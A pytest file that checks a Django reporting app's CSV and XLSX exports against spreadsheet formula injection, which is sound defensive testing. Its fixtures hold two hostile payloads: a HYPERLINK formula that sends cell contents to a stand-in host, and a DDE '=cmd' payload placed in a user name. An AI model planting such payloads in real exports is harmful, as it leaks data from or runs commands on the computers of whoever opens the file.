"""Spreadsheet formula injection: a cell that begins with =, +, -, @, tab or carriage return is
neutralised in every export, and XLSX cells are written as text; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from mentor.models import AccessAction, AccessLog
from mentor.spreadsheet import safe_cell
from reporting import exports
from reporting.tables import COUNT, MONEY, Column, Table
from tests.conftest import People
from tests.factories import CitizenFactory, UserFactory

FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"Klik")'


@pytest.mark.parametrize("text", [FORMULA, "+1+1", "-1+1", "@SUM(A1)", "\tx", "\rx"])
def test_text_that_a_spreadsheet_would_run_is_quoted(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [42, -7, Decimal("-12.5"), 3.5, None, "Jensen", ""])
def test_numbers_and_plain_text_are_left_alone(value: object) -> None:
    assert safe_cell(value) == value


def _citizen_table() -> Table:
    return Table(key="overdue_reviews", title="Overskredne opfølgninger",
                 columns=[Column("citizen", "Borger"), Column("days", "Dage", COUNT),
                          Column("amount", "Beløb", MONEY)],
                 rows=[[FORMULA, -3, Decimal("-100")]], citizen_level=True)


def test_a_formula_name_is_text_in_the_csv_export() -> None:
    text = exports.table_csv(_citizen_table()).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[1] == ["'" + FORMULA, "-3", "-100"]


def test_a_formula_name_is_text_in_the_xlsx_export() -> None:
    heading = exports.ReportHeading(title="T", period="2026", filters=[], generated="nu")
    sheet = load_workbook(io.BytesIO(exports.tables_xlsx([_citizen_table()], heading))).active
    cells = {c.value: c for row in sheet.iter_rows() for c in row if c.value is not None}
    assert "'" + FORMULA in cells
    assert cells["'" + FORMULA].data_type == "s"
    assert not any(c.data_type == "f" for c in cells.values())
    assert cells[-3].data_type == "n"


def test_the_access_log_csv_quotes_reasons_and_user_names(client: Client, people: People) -> None:
    citizen = CitizenFactory(team=people.team)
    user = UserFactory(first_name="=cmd|' /C calc'!A0", last_name="")
    AccessLog.objects.create(user=user, citizen=citizen, action=AccessAction.LOOKUP,
                             what="Opslag", reason="+SUM(1)")
    client.force_login(people.administrator)
    response = client.get(reverse("access_log_export", args=[citizen.pk]))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows[1:] for cell in row]
    assert not any(cell[:1] in ("=", "+", "-", "@") for cell in cells)
    assert "'+SUM(1)" in cells
